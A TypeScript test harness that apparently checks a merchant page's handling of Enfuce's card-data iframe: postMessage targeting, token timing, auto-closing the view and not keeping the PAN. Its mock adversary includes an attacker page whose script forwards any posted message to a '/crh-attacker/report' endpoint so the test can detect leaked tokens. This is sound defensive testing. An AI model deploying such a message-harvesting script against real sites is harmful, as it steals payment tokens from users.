// Enfuce's client side: a merchant's web page that frames the card-data page (the document's
// Process description, step 4, desktop browser). The harness plays Enfuce: its adversary stands in
// front of the reference mock, records the control tokens issued, points the returned URLs at
// itself, and in one case sends the frame to another origin before the page posts its token.
// Chromium opens the page; what the provider's frame received is recorded inside the frame.
import { defineRequirements } from '../../core/requirements.ts';
import { STANDARDS } from '../../core/standards.ts';
import type { Answer, Exchange, Interceptor } from '../../client/adversary.ts';
import type { ClientFinding } from '../../client/record.ts';
import {
  appVars,
  type CaseVerdict,
  type PageCase,
  type PageCaseAdversary,
  type PageObservation,
  type PageSide,
} from '../../client/side.ts';
import { enfuceCatalogue } from './catalogue.ts';
import { tokenAnswers } from './client-token.ts';

const PAGE = 'the merchant page that frames cardDataFrameUrl';

export const enfuceClientRequirements = defineRequirements({
  'ENF-CLIENT-FRAME': {
    endpoint: PAGE,
    section: 'Process description, step 4 (desktop browser)',
    text: 'Desktop browser opens iframe to cardDataFrameUrl with query parameter key. After that is loaded, parent page makes window.postMessage() call to the iframe. Posted message object contains field operation with value view-pan and field token: the card shows in the frame.',
    source: 'document',
    quotes: [
      'Desktop browser opens iframe to cardDataFrameUrl with query parameter _key_.',
      'After that is loaded, parent page makes window.postMessage() call to the iframe. Posted message object contains field _operation_ with value _view-pan_ and field _token_.',
    ],
    severity: 'blocker',
  },
  'ENF-CLIENT-TARGET-ORIGIN': {
    endpoint: PAGE,
    section: 'Process description, step 4 (the example posts to cardDataFrameUrl)',
    text: "The token is posted with the frame's origin as targetOrigin (the example passes cardDataFrameUrl), never '*': a frame sent elsewhere before the post receives nothing.",
    source: 'standard',
    severity: 'blocker',
    cites: [STANDARDS.htmlPostMessageTarget],
  },
  'ENF-CLIENT-TOKEN-ON-REVEAL': {
    endpoint: PAGE,
    section:
      'Process description, step 3 ("the token is valid for 30 seconds which is the deadline for the end user device to make the POST call")',
    text: 'A page that waits for its user asks for the control token when the user asks to see the card, not when the page loads: a user who looks for more than 30 seconds first still sees the card.',
    source: 'document',
    quotes: [
      'Note the token is valid for 30 seconds which is the deadline for the end user device to make the POST call to retrieve the HTML snapshot',
    ],
    severity: 'critical',
  },
  'ENF-CLIENT-CLOSES-VIEW': {
    endpoint: PAGE,
    section: 'PCI and security considerations, Enfuce recommendations for end user app development',
    text: 'It is recommended that there is a timeout of 1 minute until the card holder data view is automatically closed for the user (a recommendation: a page that keeps it open warns).',
    source: 'document',
    quotes: [
      'it is recommended that there is a timeout of 1 minute until the card holder data view is automatically closed for the user.',
    ],
    severity: 'normal',
  },
  'ENF-CLIENT-NO-TRACE': {
    endpoint: PAGE,
    section: 'PCI and security considerations',
    text: 'No card data is stored in the process: the page keeps neither the PAN nor the control token in its storage, cookies, URL or console.',
    source: 'document',
    quotes: ['No card data is stored in the process.'],
    severity: 'critical',
  },
});

const FRAME_KEY = 'crh-client-page';
/** The page's backend is given the API, its credentials, the card and the agreed key: never the card's values. */
const BACKEND_VARS = ['ENFUCE_USERNAME', 'ENFUCE_PASSWORD', 'ENFUCE_CARD_ID', 'ENFUCE_FRAME_KEY'] as const;
const ATTACKER = '/crh-attacker';

const html = (body: string): Answer => ({
  status: 200,
  headers: { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' },
  body: Buffer.from(body),
});
// A page of another origin that reports whatever it is posted (the token, if the page posts with '*').
const ATTACKER_PAGE = `<!doctype html><title>elsewhere</title><script>
addEventListener('message', (e) => fetch('${ATTACKER}/report', { method: 'POST', body: JSON.stringify({ data: e.data, origin: e.origin }) }));
</script>`;

/** One case's Enfuce: records the tokens, points the returned URLs at itself, and sends the frame elsewhere when told. */
function enfuceAdversary(vars: Record<string, string>, self: { url: string }, redirectFrame: boolean) {
  const issued = tokenAnswers(vars, self);
  const reports: { data: unknown; origin: string }[] = [];
  let attackerAt: number | undefined;
  let frameRequests = 0;
  const interceptor: Interceptor = {
    own(r: Exchange) {
      const path = r.path.split('?')[0];
      if (path === ATTACKER) {
        attackerAt ??= Date.now();
        return html(ATTACKER_PAGE);
      }
      if (path === `${ATTACKER}/report`) {
        try {
          reports.push(JSON.parse(r.body.toString('utf8')) as { data: unknown; origin: string });
        } catch {
          // not a report
        }
        return { status: 204, headers: {}, body: Buffer.alloc(0) };
      }
      if (path === issued.paths.frame) {
        frameRequests++;
        // The same server under another name is another origin: the page's targetOrigin no longer matches.
        if (redirectFrame)
          return {
            status: 302,
            headers: { location: `${self.url.replace('127.0.0.1', 'localhost')}${ATTACKER}` },
            body: Buffer.alloc(0),
          };
      }
      return undefined;
    },
    answer: issued.answer,
  };
  return {
    interceptor,
    env: (url: string) => ({
      ENFUCE_BASE_URL: url,
      ...appVars(vars, BACKEND_VARS),
    }),
    tokens: issued.tokens,
    reports,
    attackerAt: () => attackerAt,
    frameRequests: () => frameRequests,
  };
}

const has = (text: string, values: Iterable<string>) => [...values].some((v) => v && text.includes(v));
/** A posted message described without its token. */
const described = (data: unknown): string =>
  data && typeof data === 'object'
    ? `an object with ${Object.keys(data).sort().join(', ') || 'no fields'}${'operation' in data ? ` (operation ${JSON.stringify((data as { operation: unknown }).operation)})` : ''}`
    : `a ${typeof data}`;

function frameFindings(seen: PageObservation, tokens: Set<string>): ClientFinding[] {
  const rule = 'ENF-CLIENT-FRAME';
  const check = "after the frame's load, {operation: 'view-pan', token} is posted to it, and the card shows";
  const f = (expected: string, received: string): ClientFinding[] => [{ requirement: rule, check, expected, received }];
  if (seen.error) return f('the page served and opened', seen.error);
  if (!tokens.size)
    return f('a control token asked for by the backend', 'no POST /v4/card/{cardId}/controlToken reached Enfuce');
  if (!seen.frameMessages.length)
    return f(
      'a message to the frame once it has loaded',
      `the frame received no message (it is ${seen.frameState || 'not there'}): posted before the frame had loaded, or never`,
    );
  const exact = seen.frameMessages.filter(
    (m) =>
      m.data !== null &&
      typeof m.data === 'object' &&
      Object.keys(m.data).sort().join() === 'operation,token' &&
      (m.data as { operation: unknown }).operation === 'view-pan' &&
      tokens.has(String((m.data as { token: unknown }).token)),
  );
  if (!exact.length)
    return f(
      "{operation: 'view-pan', token} with the token Enfuce issued",
      seen.frameMessages.map((m) => described(m.data)).join('; '),
    );
  if (seen.frameState !== 'shown')
    return f('the card shown in the frame', `the frame is ${seen.frameState || 'not there'}`);
  return [];
}

function traceFindings(seen: PageObservation, tokens: Set<string>, pan: string | undefined): ClientFinding[] {
  return seen.places.flatMap((p) => {
    const what = [
      ...(has(p.text, tokens) ? ['the control token'] : []),
      ...(pan && p.text.includes(pan) ? ['the PAN'] : []),
    ];
    return what.length
      ? [
          {
            requirement: 'ENF-CLIENT-NO-TRACE',
            check: 'no token or card data kept by the page',
            expected: `nothing of the card in ${p.where}`,
            received: `${what.join(' and ')} in ${p.where}`,
          },
        ]
      : [];
  });
}

const shownOrRefused = (seen: Pick<PageObservation, 'frameState'>) =>
  seen.frameState === 'shown' || seen.frameState === 'refused';

/** A case served honestly, settled once the frame shows the card or refuses, judged by `judge`. */
function honestCase(
  c: Omit<PageCase, 'adversary'>,
  judge: (seen: PageObservation, a: ReturnType<typeof enfuceAdversary>, vars: Record<string, string>) => CaseVerdict,
): PageCase {
  return {
    ...c,
    adversary(vars, self): PageCaseAdversary {
      const a = enfuceAdversary(vars, self, false);
      return { ...a, settled: shownOrRefused, judge: (seen) => judge(seen, a, vars) };
    },
  };
}

const honest = honestCase(
  {
    name: 'honest',
    title: 'the token and the frame as Enfuce gives them: the card shows in the frame, and the page keeps nothing',
    requirements: ['ENF-CLIENT-FRAME', 'ENF-CLIENT-NO-TRACE'],
    served: 'the honest token answer and frame',
  },
  (seen, a, vars) => ({
    findings: [
      ...frameFindings(seen, a.tokens),
      ...(seen.error ? [] : traceFindings(seen, a.tokens, vars.ENFUCE_CARD_PAN)),
    ],
    ...(seen.error ? { unjudged: { 'ENF-CLIENT-NO-TRACE': 'the page did not open' } } : {}),
  }),
);

const redirected: PageCase = {
  name: 'frame-redirected',
  title: 'the frame sent to another origin before the post: the token must not reach it',
  requirements: ['ENF-CLIENT-TARGET-ORIGIN'],
  served: 'a frame URL that redirects to a page of another origin',
  adversary(vars, self): PageCaseAdversary {
    const a = enfuceAdversary(vars, self, true);
    return {
      ...a,
      // Settled when the other origin got a message, or 1.5 s after its page loaded without one.
      settled: () => a.reports.length > 0 || (a.attackerAt() !== undefined && Date.now() - a.attackerAt()! > 1500),
      judge: (): CaseVerdict => {
        if (!a.tokens.size || !a.frameRequests())
          return { notRun: 'the page asked for no token, or opened no frame: nothing to post' };
        const leaked = a.reports.filter((r) => has(JSON.stringify(r.data ?? ''), a.tokens));
        return {
          findings: leaked.length
            ? [
                {
                  requirement: 'ENF-CLIENT-TARGET-ORIGIN',
                  check: "the token is posted to the frame's origin only",
                  expected: 'nothing received by the page the frame was sent to',
                  received: `the control token received by ${new URL(self.url.replace('127.0.0.1', 'localhost')).origin} (targetOrigin '*')`,
                },
              ]
            : [],
        };
      },
    };
  },
};

const slowUser = honestCase(
  {
    name: 'slow-user',
    title: 'the user clicks to see the card 31 s after the page loaded: the card still shows',
    requirements: ['ENF-CLIENT-TOKEN-ON-REVEAL'],
    served: "Enfuce's clock 31 s on between the page's load and the user's click",
    clock: { mockAdvanceBeforeRevealMs: 31_000 },
  },
  (seen, a): CaseVerdict => {
    if (!seen.revealed) return { notRun: 'the page reveals the card as it loads (no --reveal): no user to wait' };
    if (seen.error || !a.tokens.size) return { notRun: 'the page asked for no token' };
    if (seen.frameState === 'shown') return { findings: [] };
    const received = `the frame is ${seen.frameState || 'not there'}: the token was older than its 30 seconds when it was used`;
    return {
      findings: [
        {
          requirement: 'ENF-CLIENT-TOKEN-ON-REVEAL',
          check: 'the token is asked for when the user asks to see the card',
          expected: 'the card shown after the click',
          received,
        },
      ],
    };
  },
);

const viewCloses = honestCase(
  {
    name: 'view-closes',
    title: "the page's clock a minute on after the card shows: the view is closed",
    requirements: ['ENF-CLIENT-CLOSES-VIEW'],
    served: 'the honest answers, then 61 s of the page’s time',
    clock: { pageForwardMs: 61_000 },
  },
  (seen): CaseVerdict => {
    if (seen.error || seen.frameState !== 'shown') return { notRun: 'the card never showed' };
    if (!seen.frameOpenAfterForward) return { findings: [] };
    return {
      findings: [
        {
          requirement: 'ENF-CLIENT-CLOSES-VIEW',
          level: 'warning',
          check: 'the card-data view closes itself within a minute',
          expected: 'no card-data frame on screen 61 s after it showed',
          received: 'the frame still on screen',
        },
      ],
    };
  },
);

export const enfuceClientPage: PageSide = {
  provider: 'enfuce',
  title: 'Enfuce — a web page that frames the card data',
  document: enfuceCatalogue.document,
  requirements: Object.values(enfuceClientRequirements),
  cases: [honest, redirected, slowUser, viewCloses],
  async prepare(mockUrl, vars, pageOrigin) {
    // The key Enfuce agrees with a merchant for its page's origin (onboarding).
    const r = await fetch(`${mockUrl}/__mock/frame-keys`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ key: FRAME_KEY, origin: pageOrigin }),
    });
    if (r.status !== 201) throw new Error(`the mock did not agree a frame key (${r.status})`);
    return { ...vars, ENFUCE_FRAME_KEY: FRAME_KEY, ENFUCE_FRAME_ORIGIN: pageOrigin };
  },
  card: (vars) => ({ pan: vars.ENFUCE_CARD_PAN, cvv: vars.ENFUCE_CARD_CVV2 }),
};
